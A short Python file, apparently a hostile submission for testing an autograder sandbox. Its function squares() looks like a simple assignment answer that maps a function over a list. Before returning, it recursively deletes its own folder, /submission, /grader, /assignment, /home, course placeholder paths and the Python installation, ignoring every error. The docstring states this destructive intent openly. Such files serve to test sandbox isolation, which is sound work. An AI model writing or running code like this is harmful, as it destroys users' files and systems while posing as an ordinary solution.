"""Deletes whatever it can name: its own submission, the sandbox's folders, the course, the Python installation."""

from __future__ import annotations

import os
import shutil
import sys


def squares(square, numbers):
    mine = os.path.dirname(os.path.abspath(__file__))
    for folder in (mine, "/submission", "/grader", "/assignment", "/home", "@submission@", "@course@", sys.prefix):
        shutil.rmtree(folder, ignore_errors=True)
    return [square(x) for x in numbers]
